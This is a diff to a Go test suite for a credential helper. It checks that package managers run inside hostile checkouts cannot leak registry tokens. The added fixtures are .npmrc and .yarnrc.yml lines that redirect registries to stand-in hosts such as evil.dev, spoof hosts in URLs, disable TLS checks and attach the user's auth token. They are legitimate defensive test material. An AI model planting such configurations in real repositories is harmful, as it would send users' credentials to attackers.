@@ -168,12 +168,47 @@ func (a arrival) holds(secrets []string) bool {
 	})
 }
 
+// packageVectors are repositories that want the token of npm, pnpm, yarn or bun elsewhere, each in one way. A redirect by the
+// profile's host from https to http is not here: most of them follow it with the token (docs/tools/pnpm.md).
+var packageVectors = []struct {
+	name    string
+	tools   string // that read such files; empty for all
+	refused bool   // by exec; otherwise the tool runs, and asks the other host without a token
+	files   map[string]string
+}{
+	{"our host by http", npmrcReaders, true, map[string]string{".npmrc": "registry=http://npm.pkg.acme.dev/\n"}},
+	{"our host by http for a scope", npmrcReaders, true, map[string]string{".npmrc": "@evil:registry=http://npm.pkg.acme.dev/\n", "package.json": evilPackage}},
+	{"proxy", npmrcReaders, true, map[string]string{".npmrc": "proxy=http://REC/\n"}},
+	{"https-proxy", npmrcReaders, true, map[string]string{".npmrc": "https-proxy=http://REC/\n"}},
+	{"strict-ssl", npmrcReaders, true, map[string]string{".npmrc": "strict-ssl=false\n"}},
+	{"our variable for another host", npmrcReaders, true, map[string]string{".npmrc": "registry=https://evil.dev/\n//evil.dev/:_authToken=${CLERK_TOKEN_ACME}\n"}},
+	{"our variable for an address", npmrcReaders, true, map[string]string{".npmrc": "registry=http://REC/\n//REC/:_authToken=${CLERK_TOKEN_ACME}\n"}},
+	{"another variable for another host", npmrcReaders, false, map[string]string{".npmrc": "registry=https://evil.dev/\n//evil.dev/:_authToken=${NPM_CONFIG_USERCONFIG}\n"}},
+	{"another host", npmrcReaders, false, map[string]string{".npmrc": "registry=https://evil.dev/\n"}},
+	{"a host that begins with ours", npmrcReaders, false, map[string]string{".npmrc": "registry=https://git.acme.dev.evil.dev/\n"}},
+	{"our host as a user", npmrcReaders, false, map[string]string{".npmrc": "registry=https://npm.pkg.acme.dev@evil.dev/\n"}},
+	{"another host for a scope", npmrcReaders, false, map[string]string{".npmrc": "@evil:registry=https://evil.dev/\n", "package.json": evilPackage}},
+	{"an address for a scope", npmrcReaders, false, map[string]string{".npmrc": "@evil:registry=http://REC/\n", "package.json": evilPackage}},
+	{"a redirect", npmrcReaders, false, map[string]string{".npmrc": "registry=https://npm.pkg.acme.dev/to/evil/\n"}},
+	{"a redirect once the token is there", npmrcReaders, false, map[string]string{".npmrc": "registry=https://npm.pkg.acme.dev/to/after-evil/\n"}},
+	{"another host of yarn 4", "yarn4", false, map[string]string{".yarnrc.yml": "npmRegistryServer: \"https://evil.dev\"\nnpmAlwaysAuth: false\n"}},
+	{"our host by http of yarn 4", "yarn4", true, map[string]string{".yarnrc.yml": "npmRegistryServer: \"http://npm.pkg.acme.dev\"\nunsafeHttpWhitelist: [\"*\"]\n"}},
+	{"a redirect of yarn 4", "yarn4", false, map[string]string{".yarnrc.yml": "npmRegistryServer: \"https://npm.pkg.acme.dev/to/after-evil\"\n"}},
+	{"a package by http", "", true, map[string]string{"package.json": `{"name":"a","version":"1.0.0","dependencies":{"hello":"http://npm.pkg.acme.dev/x.tgz"}}`}},
+	{"a package of another host", "", false, map[string]string{"package.json": `{"name":"a","version":"1.0.0","dependencies":{"hello":"https://evil.dev/x.tgz"}}`}},
+}
+
+const (
+	npmrcReaders = "npm pnpm10 pnpm12 yarn1 bun"
+	evilPackage  = `{"name":"a","version":"1.0.0","dependencies":{"@evil/a":"1"}}`
+)
+
 // TestHostileRepository runs every tool that is installed here, signed in, in a checkout whose files all lead elsewhere: to
 // hosts of no profile, to a profile's host over plain http, by way of redirects, proxies and users in addresses. Nothing of
 // ours may arrive but at the profile's hosts over TLS, and no program of the checkout may be run by us. Each row has an
 // honest call as well, which brings a token to a profile's host: without that it would prove nothing.
 func TestHostileRepository(t *testing.T) {
-	testworld.Long(t, "it runs ten tools")
+	testworld.Long(t, "it runs many tools")
 	if runtime.GOOS == "windows" {
 		t.Skip("the programs in the checkout are shell scripts")
 	}
@@ -211,6 +246,9 @@ func TestHostileRepository(t *testing.T) {
 		"GOENV": filepath.Join(dir, "goenv"), "GOSUMDB": "off", "GOFLAGS": "-modcacherw", "GOTOOLCHAIN": "local", "GOMODCACHE": filepath.Join(dir, "gomod"),
 		"GOCACHE": filepath.Join(dir, "gocache"), "GOAUTH": self + " goauth", "CARGO_HOME": filepath.Join(home, ".cargo"), "CHECKPOINT_DISABLE": "1",
 		"PIP_NO_CACHE_DIR": "1", "PIP_DISABLE_PIP_VERSION_CHECK": "1", "PIP_KEYRING_PROVIDER": "subprocess", "PIP_NO_INPUT": "1", "PIP_RETRIES": "0",
+		"YARN_HTTP_PROXY": proxy, "YARN_HTTPS_PROXY": proxy, "YARN_HTTPS_CA_FILE_PATH": vars["SSL_CERT_FILE"], "YARN_HTTP_RETRY": "0",
+		"YARN_ENABLE_TELEMETRY": "0", "YARN_ENABLE_GLOBAL_CACHE": "0", "YARN_CACHE_FOLDER": filepath.Join(dir, "yarn"), "YARN_ENABLE_SCRIPTS": "0",
+		"BUN_INSTALL_CACHE_DIR": filepath.Join(dir, "bun"), "npm_config_update_notifier": "false", "npm_config_ignore_scripts": "true", "pnpm_config_fetch_retries": "0", "pnpm_config_ignore_scripts": "true", "COREPACK_ENABLE_STRICT": "0",
 		"KUBECONFIG": filepath.Join(home, "kubeconfig"), "GIT_LFS_SKIP_SMUDGE": "1", "npm_config_fetch_retries": "0", "npm_config_cache": filepath.Join(dir, "npm"),
 	} {
 		vars[name] = value
@@ -245,7 +283,8 @@ func TestHostileRepository(t *testing.T) {
 		".cargo/config.toml":     "[registries.corp]\nindex = \"sparse+https://rs.pkg.acme.dev/\"\ncredential-provider = [\"cargo-credential-clerk\"]\n[registry]\nglobal-credential-providers = [\"cargo-credential-clerk\"]\n",
 		".docker/config.json":    `{"credsStore":"clerk","credHelpers":{"registry.acme.dev":"clerk","evil.dev":"clerk","REC":"clerk","registry.acme.dev:80":"clerk"}}`,
 		".config/pip/pip.conf":   "[global]\nindex-url = https://clerk@py.pkg.acme.dev/simple/\n",
-		".npmrc":                 "//npm.pkg.acme.dev/:_authToken=${CLERK_TOKEN_ACME}\nregistry=https://npm.pkg.acme.dev/\n",
+		".npmrc":                 "registry=https://npm.pkg.acme.dev/\nalways-auth=true\ncafile=" + vars["SSL_CERT_FILE"] + "\nstrict-ssl=false\n", // pnpm 12 takes no certificate that signs itself
+		".yarnrc.yml":            "npmRegistryServer: \"https://npm.pkg.acme.dev\"\nnpmAlwaysAuth: true\n",
 		"rclone.conf":            "[dav]\ntype = webdav\nurl = https://git.acme.dev/dav\nvendor = other\nbearer_token_command = SELF token https://git.acme.dev\n",
 		"kubeconfig":             kubeconfig("https://git.acme.dev", ""),
 		".terraform.d/plugins/x": "",
@@ -320,11 +359,34 @@ func TestHostileRepository(t *testing.T) {
 		return ok && (host == "git.acme.dev" || host == "registry.acme.dev" || strings.HasSuffix(host, ".pkg.acme.dev"))
 	}
 
-	for _, tt := range []struct {
+	type row struct {
 		tool    string
-		honest  string // brings a token to a profile's host; empty where there is nothing of ours to bring
+		honest  string // brings a token to a profile's host
 		hostile []string
-	}{
+	}
+	// A package manager gets its token from exec. Each of its repositories has one vector, since the first is refused, and a
+	// folder for each manager.
+	refused := map[string]bool{} // whether exec must refuse a command
+	install := func(tool string) row {
+		command := func(name string, files map[string]string) string {
+			folder := filepath.Join(dir, "packages", tool, name)
+			furnish(folder, map[string]string{"package.json": `{"name":"a","version":"1.0.0","dependencies":{"hello":"1"}}`})
+			furnish(folder, files)
+			return "cd '" + folder + "' && clerk-credential-helper exec -- " + tool + " install"
+		}
+		all := row{tool: tool, honest: command("honest", nil)}
+		for _, v := range packageVectors {
+			if v.tools == "" || slices.Contains(strings.Fields(v.tools), tool) {
+				hostile := command(strings.ReplaceAll(v.name, " ", "-"), v.files)
+				all.hostile, refused[hostile] = append(all.hostile, hostile), v.refused
+			}
+		}
+		whole := "clerk-credential-helper exec -- " + tool + " install" // the whole checkout
+		all.hostile, refused[whole] = append(all.hostile, whole), true
+		return all
+	}
+
+	for _, tt := range []row{
 		{"git", "git ls-remote https://git.acme.dev/a.git", []string{
 			"git submodule update --init",
 			"git ls-remote http://git.acme.dev/a.git",
@@ -375,9 +437,7 @@ func TestHostileRepository(t *testing.T) {
 			"python3 -m pip download --no-deps -d d --index-url https://clerk@py.pkg.acme.dev/to/evil/simple/ hello", "python3 -m pip download --no-deps -d d --index-url https://clerk@py.pkg.acme.dev/to/after-evil/simple/ hello",
 			"python3 -m pip download --no-deps -d d --proxy http://REC -r plain.txt", "python3 -m pip download --no-deps -d d git+http://git.acme.dev/a.git",
 		}},
-		{"pnpm10", "", []string{"pnpm10 install --ignore-scripts", "pnpm10 view hello"}},
-		{"pnpm12", "", []string{"pnpm12 install --ignore-scripts", "pnpm12 view hello"}},
-		{"npm", "", []string{"npm install --ignore-scripts", "npm view hello", "npm view @evil/a", "npm view @rec/a"}},
+		install("npm"), install("pnpm10"), install("pnpm12"), install("yarn1"), install("yarn4"), install("bun"),
 		{"rclone", "rclone --config HOME/rclone.conf --retries 1 --low-level-retries 1 lsf dav:", []string{
 			"rclone --config HOME/rclone.conf --retries 1 --low-level-retries 1 --webdav-bearer-token-command 'SELF token http://git.acme.dev' --webdav-url http://git.acme.dev/dav lsf dav:",
 			"rclone --config HOME/rclone.conf --retries 1 --low-level-retries 1 --webdav-bearer-token-command 'SELF token https://evil.dev' --webdav-url https://evil.dev/dav lsf dav:",
@@ -400,12 +460,13 @@ func TestHostileRepository(t *testing.T) {
 		t.Run(tt.tool, func(t *testing.T) {
 			testworld.Need(t, tt.tool)
 			rec.since()
-			if tt.honest != "" {
-				out := call(t, work, fill.Replace(tt.honest))
-				came := slices.ContainsFunc(rec.since(), func(a arrival) bool { return ours(a.place) && a.holds(secrets) })
-				if !came {
-					t.Errorf("%s: no token came to the profile's host, which proves nothing:\n%s", tt.honest, out)
-				}
+			if tt.honest == "" {
+				t.Fatal("it has no honest call")
+			}
+			out := call(t, work, fill.Replace(tt.honest))
+			came := slices.ContainsFunc(rec.since(), func(a arrival) bool { return ours(a.place) && a.holds(secrets) })
+			if !came {
+				t.Errorf("%s: no token came to the profile's host, which proves nothing:\n%s", tt.honest, out)
 			}
 			for _, hostile := range tt.hostile {
 				out := call(t, work, fill.Replace(hostile))
@@ -419,7 +480,16 @@ func TestHostileRepository(t *testing.T) {
 				for _, a := range arrived {
 					places = append(places, a.place)
 				}
-				t.Logf("%s: %q", hostile, slices.Compact(places))
+				places = slices.Compact(places)
+				t.Logf("%s: %q", hostile, places)
+				must, packages := refused[hostile]
+				switch says := strings.Contains(out, "no token is handed out"); {
+				case !packages:
+				case must && (!says || places != nil):
+					t.Errorf("%s: it was not refused:\n%s", hostile, out)
+				case !must && (says || places == nil):
+					t.Errorf("%s: the package manager asked for nothing, which proves nothing:\n%s", hostile, out)
+				}
 			}
 		})
 	}
